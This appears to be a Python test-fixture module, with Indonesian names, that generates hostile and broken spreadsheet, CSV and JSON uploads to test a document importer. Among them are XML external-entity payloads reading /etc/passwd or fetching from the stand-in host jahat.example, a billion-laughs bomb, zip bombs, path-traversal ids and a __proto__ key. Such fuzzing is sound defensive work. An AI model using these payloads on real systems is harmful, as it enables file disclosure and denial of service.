"""Files made to harm whoever imports them, and files that are merely broken: name → bytes."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from catalogue.documents import Document

from .sheets import workbook

MAIN = "xl/worksheets/sheet1.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
SPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
ROWS = [["Nama inovasi", "Ringkasan"], ["Uji", "Ringkasan yang cukup panjang untuk diterima oleh pemeriksaan."]]
GOOD = workbook({"Inovasi": ROWS})


def packed(parts: Mapping[str, bytes | str], base: bytes = GOOD, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A good workbook with some parts replaced or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(stream, "w", method) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return stream.getvalue()


def sheet(rows: str, after: str = "", declaration: str = HEAD, doctype: str = "") -> bytes:
    """A good workbook with other rows."""
    body = f"{declaration}{doctype}<worksheet {SPACE}><sheetData>{rows}</sheetData>{after}</worksheet>"
    return packed({MAIN: body})


def cell(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADINGS = f'<row r="1">{cell("A1", "Nama inovasi")}{cell("B1", "Ringkasan")}</row>'


def lying_sizes() -> bytes:
    """The sheet's unpacked size said to be 10 bytes."""
    raw = bytearray(GOOD)
    at = raw.rfind(MAIN.encode()) - 46  # the central directory entry
    raw[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(raw)


def encrypted() -> bytes:
    raw = bytearray(GOOD)
    at = raw.rfind(MAIN.encode()) - 46
    raw[at + 8] |= 1
    return bytes(raw)


def billion_laughs() -> str:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{entities}]>'


FILE_ENTITY = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
OUTSIDE = '<Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/>'
NET_ENTITY = '<!DOCTYPE x SYSTEM "http://jahat.example/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://jahat.example/p">%p;]>'

HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "bom zip 600 MB": lambda: packed({MAIN: b"<a>" + b"0" * 600_000_000}),
    "bom zip dalam bagian lain": lambda: packed({"xl/media/a.bin": b"\0" * 80_000_000}),
    "sepuluh ribu bagian": lambda: packed({f"xl/x{n}.xml": b"" for n in range(10_000)}),
    "ukuran bohong": lying_sizes,
    "bagian terkunci": encrypted,
    "zip terpotong": lambda: GOOD[: len(GOOD) // 2],
    "zip tanpa isi": lambda: b"PK\x05\x06" + b"\0" * 18,
    "hanya tanda zip": lambda: b"PK\x03\x04",
    "zip bukan lembar kerja": lambda: _plain_zip({"a.txt": b"halo"}),
    "dokumen LibreOffice": lambda: _plain_zip({"mimetype": b"x", "content.xml": b"<x/>"}),
    "dokumen Word": lambda: _plain_zip({"word/document.xml": b"<x/>"}),
    "Excel lama": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000,
    "entitas berkas": lambda: sheet(f'{HEADINGS}<row r="2">{cell("A2", "&f;")}</row>', doctype=FILE_ENTITY),
    "entitas jaringan": lambda: sheet(HEADINGS, doctype=NET_ENTITY),
    "entitas parameter": lambda: sheet(HEADINGS, doctype=PARAMETER),
    "bom entitas": lambda: sheet(f'<row r="1">{cell("A1", "&e9;")}</row>', doctype=billion_laughs()),
    "entitas dalam teks bersama": lambda: packed({"xl/sharedStrings.xml": f"{HEAD}{FILE_ENTITY}<sst {SPACE}/>"}),
    "entitas dalam gaya": lambda: packed({"xl/styles.xml": f"{HEAD}{billion_laughs()}<styleSheet {SPACE}/>"}),
    "entitas dalam hubungan": lambda: packed({"xl/_rels/workbook.xml.rels": f"{HEAD}{FILE_ENTITY}<r/>"}),
    "XML UTF-16": lambda: packed({MAIN: f"<worksheet {SPACE}/>".encode("utf-16")}),
    "XML UTF-7": lambda: sheet(HEADINGS, declaration='<?xml version="1.0" encoding="UTF-7"?>'),
    "XML EBCDIC": lambda: sheet(HEADINGS, declaration='<?xml version="1.0" encoding="cp037"?>'),
    "XML rusak": lambda: packed({MAIN: f"{HEAD}<worksheet {SPACE}><sheetData><row>"}),
    "sel terjauh": lambda: sheet(f'{HEADINGS}<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    "kolom terjauh": lambda: sheet(f'<row r="1">{cell("A1", "Nama inovasi")}{cell("XFD1", "x")}</row>'),
    "terlalu banyak baris": lambda: sheet(
        "".join(f'<row r="{n}">{cell(f"A{n}", "x")}</row>' for n in range(1, 25_000))
    ),
    "tiga juta unsur": lambda: sheet("<c/>" * 3_000_000),
    "gabungan seluruh lembar": lambda: sheet(
        HEADINGS, '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A2:B1048576"/></mergeCells>'
    ),
    "dua puluh ribu gabungan": lambda: sheet(
        f'{HEADINGS}<row r="2">{cell("A2", "x")}</row>',
        "<mergeCells>" + '<mergeCell ref="A1:A20000"/>' * 20_000 + "</mergeCells>",
    ),
    "nomor teks di luar daftar": lambda: sheet('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'),
    "angka raksasa": lambda: sheet(f'{HEADINGS}<row r="2">{cell("A2", "Uji")}<c r="B2"><v>1E999999999</v></c></row>'),
    "angka bukan angka": lambda: sheet(f'{HEADINGS}<row r="2">{cell("A2", "Uji")}<c r="B2"><v>NaN</v></c></row>'),
    "acuan sel aneh": lambda: sheet('<row r="-1"><c r="A0" t="inlineStr"><is><t>x</t></is></c></row>'),
    "bagian di luar berkas": lambda: packed(
        {"xl/_rels/workbook.xml.rels": f"<Relationships>{OUTSIDE}</Relationships>"}
    ),
    "karakter kendali": lambda: sheet(
        f'{HEADINGS}<row r="2">{cell("A2", "Uji_x0000_")}{cell("B2", "_x001B_[31m" + "a" * 60)}</row>'
    ),
    "bukan apa-apa": lambda: bytes(range(256)) * 40,
    "gambar": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10,
    "kosong": lambda: b"",
    "hanya spasi": lambda: b" \r\n\t \n" * 100,
    "kutip tak ditutup": lambda: b'nama,ringkasan\n"Uji,' + b"x" * 200_000,
    "CSV sejuta baris": lambda: b"nama,ringkasan\n" + b"a,b\n" * 1_000_000,
    "CSV seratus ribu kolom": lambda: b"nama," + b"a," * 100_000,
    "CSV bukan huruf": lambda: b"nama,ringkasan\nUji,\x81\x8d\x8f",
    "CSV UTF-16 terpotong": lambda: b"\xff\xfen\0a\0m\0a\0\n",
    "CSV dengan NUL": lambda: b"nama,ringkasan\nUji,a\0b",
    "CSV 20 MB": lambda: b"nama,ringkasan\n" + b"x" * 20_000_000,
    "JSON seratus ribu kurung": lambda: b"[" * 100_000,
    "JSON angka raksasa": lambda: b'[{"id": "uji", "nama": ' + b"9" * 10_000 + b"}]",
    "JSON setengah pengganti": lambda: b'[{"id": "uji", "nama": "\\ud800"}]',
    "JSON kunci asing": lambda: b'[{"id": "uji", "nama": "Uji", "__proto__": {"a": "b"}}]',
    "JSON id keluar folder": lambda: b'[{"id": "../../etc/passwd", "nama": "Uji"}]',
    "JSON terpotong": lambda: b'[{"id": "uji"',
    "id keluar folder": lambda: workbook({"Inovasi": [["Id inovasi", *ROWS[0]], ["../../site", *ROWS[1]]]}),
    "nama perangkat Windows": lambda: workbook({"Inovasi": [["Id inovasi", *ROWS[0]], ["con", *ROWS[1]]]}),
}


def _plain_zip(parts: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return stream.getvalue()


def document(name: str) -> Document:
    """One of them as it would lie on the disk."""
    return Document("kiriman", HOSTILE[name]())
